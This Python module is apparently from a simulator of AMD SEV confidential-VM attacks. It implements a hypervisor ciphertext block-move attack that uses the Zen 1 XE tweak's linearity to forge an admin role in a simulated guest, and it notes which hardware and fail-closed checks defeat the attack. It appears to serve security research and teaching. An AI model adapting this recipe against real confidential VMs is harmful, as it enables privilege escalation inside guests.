"""A4: ciphertext block moves and the XE tweak (Du et al. 2017; SEVurity 2020).

Memory encryption without integrity lets the hypervisor copy a 16-byte ciphertext block from
one SPA to another. The block then decrypts under the destination's tweak:
- Zen 1 (Naples) uses XE, c = E(m ^ T(spa)) with T linear: a block moved from a to b
  decrypts to m ^ T(a) ^ T(b). With a chosen-plaintext echo at a known address the attacker
  learns that difference and writes any value it likes anywhere (SEVurity's encryption
  oracle): here it moves the victim's role block into the echo buffer, reads the echo to learn
  Δ = T(role) ^ T(echo), sends ROLE_ADMIN ^ Δ as the next request and moves that block onto
  the role.
- Zen 2 and later (Rome, Milan, ...) use XEX with 128-bit tweak constants: the moved block
  decrypts to unpredictable garbage. The attacker still changes the data (no integrity), but
  cannot choose the value.
The attack code is the same everywhere; what the victim ends up acting on shows which case
happened. SEV-SNP's RMP refuses the host's write to a guest page, so nothing moves.

Which chip each cell runs on, and why:
- The matrix's base cells run on Milan (Zen 3). none: no encryption, the chosen role lands
  exactly. sev and sev-es: the moved block is garbage, and the victim's fail-open check
  ("anything but GUEST is privileged") grants anyway, which is Du et al.'s point that
  encryption without integrity does not protect data. snp: RmpViolation.
- The "Zen 2 tweak" fix cells run on Rome (the first Zen 2 part, and the first with SEV-ES)
  against a victim built with fail-closed checks (`fail-closed-checks`: only the exact
  ROLE_ADMIN grants): garbage no longer helps, and the Zen 2 tweak is what keeps the attacker
  from forging the exact value. The same victim on Naples (SEV only: Zen 1 had no SEV-ES) is
  broken by the chosen value, which tests/test_attacks_mem.py checks, so the fix column is
  computed from both sides.
"""

from __future__ import annotations

import re

from sevsim.abi.svm import SEVSIM_HC_HOST_INPUT
from sevsim.attacks.framework import Attack, Attempt, Setting
from sevsim.attacks.lab import Lab

# the victim's public protocol constants (tweak_vault.c)
ROLE_GUEST = 0x6E6F6D6973616E6F
ROLE_ADMIN = 0x21746F6F72212121
ECHO_OFFSET, ROLE_OFFSET = 0x00, 0x40  # in `vault`: the echo buffer, the role's block
DENIED = b"access denied"
_ECHO_LINE = re.compile(rb"echo:((?: [0-9a-f]{2}){16})")
_ROLE_LINE = re.compile(rb"role ([0-9a-f]{16}): access (granted|denied)")


def _block(role: int) -> bytes:
    """The role's 16-byte block: the role, then its zero padding."""
    return role.to_bytes(8, "little") + bytes(8)


def _xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b, strict=True))


class BlockMove(Attack):
    """Learn the tweak difference through the echo, then move a chosen block onto the role."""

    id = "A4"
    name = "block move / tweak (Du 2017, SEVurity)"
    actor = "malicious hypervisor"
    source = ("Du et al., 'Secure Encrypted Virtualization is Unsecure', arXiv 2017; Wilke et "
              "al., 'SEVurity: No Security Without Integrity', IEEE S&P 2020")
    fixes = (Setting("sev", "rome", frozenset({"fail-closed-checks"})),
             Setting("sev-es", "rome", frozenset({"fail-closed-checks"})))

    def attempt(self, lab: Lab) -> Attempt:
        """Two echo rounds: the first learns Δ, the second plants ROLE_ADMIN ^ Δ and moves it."""
        victim = lab.victim("tweak_vault", honest=DENIED)
        base = victim.symbol("vault")
        echo = lab.hypervisor.gpa_to_spa(victim.vm, base + ECHO_OFFSET)
        role = lab.hypervisor.gpa_to_spa(victim.vm, base + ROLE_OFFSET)
        lab.trace(f"the echo buffer is at SPA 0x{echo:x}, the role's block at 0x{role:x}")
        wanted = _block(ROLE_ADMIN)
        calls: list[int] = []

        def at_input(nr: int) -> None:
            if nr != SEVSIM_HC_HOST_INPUT:
                return
            step = len(calls)
            calls.append(nr)
            if step == 0:  # round 1's request: anything
                victim.vm.host_input = bytes(16)
            elif step == 1:  # the echo is in place: put the role's ciphertext there instead
                lab.hypervisor.move_ciphertext(role, echo, 16)
                lab.trace("round 1: moved the role's ciphertext block into the echo buffer")
                victim.vm.host_input = b"k"
            elif step == 2:  # the victim echoed it: Δ, then the request that encrypts to ADMIN
                seen = _ECHO_LINE.findall(victim.vm.console.encode())
                echoed = bytes.fromhex(seen[-1].decode().replace(" ", ""))
                delta = _xor(echoed, _block(ROLE_GUEST))
                lab.trace(f"the victim echoed {echoed.hex()}: Δ = T(role) ^ T(echo) would be "
                          f"{delta.hex()}; requesting ROLE_ADMIN ^ Δ")
                victim.vm.host_input = _xor(wanted, delta)
            elif step == 3:  # the chosen block is in the echo buffer: move it onto the role
                lab.hypervisor.move_ciphertext(echo, role, 16)
                lab.trace("round 2: moved the echo buffer's block onto the role")
                victim.vm.host_input = b"k"

        lab.hypervisor.on_hypercall(victim.vm, at_input)
        victim.vm.run(timeout=30)
        found = _ROLE_LINE.search(victim.vm.console.encode())
        if found is None:
            return Attempt(b"", "the victim reported no decision")
        acted_on = int(found.group(1), 16)
        exact = acted_on == ROLE_ADMIN
        lab.trace(f"the victim acted on role 0x{acted_on:016x}: "
                  + ("exactly the chosen ROLE_ADMIN (T is linear: Δ was right)" if exact else
                     "not the chosen value: the block decrypted under another SPA's tweak"))
        saw = ("the chosen value landed" if exact else
               f"the moved block decrypted under another SPA's tweak to 0x{acted_on:016x}, "
               "not ROLE_ADMIN; the guest's check refused it")
        return Attempt(found.group(0), saw)
